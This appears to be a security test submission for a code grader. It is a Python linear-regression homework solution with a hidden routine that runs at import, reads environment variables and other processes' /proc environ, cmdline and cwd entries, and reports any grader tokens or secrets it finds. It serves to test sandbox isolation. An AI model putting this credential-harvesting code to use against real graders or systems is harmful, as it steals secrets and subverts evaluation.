"""Attack: read the grader's secrets: its environment (an LMS token) and other processes' details.

os.environ, /proc/self/environ, and /proc/<pid>/environ, cmdline and cwd of every visible
process. Anything mentioning GRADER_, the test run's secret or the repository path is leaked.
Honest code is correct: 10/10 only if nothing was found.
"""

import os

import numpy as np

CONFIG = {}  # replaced by the test
_LOOT = []


def leak(text):
    _LOOT.append(str(text)[:200])
    print("LEAK:", text)


def _reveal():
    if _LOOT:
        raise RuntimeError("LEAK " + " | ".join(_LOOT))


def _suspicious(text):
    return ("GRADER_" in text or CONFIG.get("secret", "canary-secret") in text
            or CONFIG.get("repo", "/srv/grader") in text or "pytest" in text)


def _attack():
    for key, value in os.environ.items():
        if _suspicious(key + "=" + value):
            leak(f"os.environ {key}={value}")
    for pid in ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    text = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if _suspicious(text):
                leak(f"/proc/{pid}/{name}: {text[-150:]}")
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _suspicious(cwd):
            leak(f"/proc/{pid}/cwd -> {cwd}")


_ = _attack()


def linear_model(w0, w1, X):
    _reveal()
    return w0 + w1 * X


def Loss(f_x, y):
    _reveal()
    _attack()
    _reveal()
    return np.mean(np.square(y - f_x))


def gradient_descent(w0, w1, X, y):
    _reveal()
    residual = (w0 + w1 * X) - y
    return np.array([2 * np.mean(residual), 2 * np.mean(residual * X)])


def main():
    _reveal()
    X = np.array([1, 2, 3, 4]).reshape((-1, 1))
    y = np.array([3.1, 4.9, 7.2, 8.9]).reshape((-1, 1))
    w0 = 0
    w1 = 0
    lr = 0.001
    for i in range(1000):
        gd = gradient_descent(w0, w1, X, y)
        w0 = w0 - lr * gd[0]
        w1 = w1 - lr * gd[1]
    return w0, w1
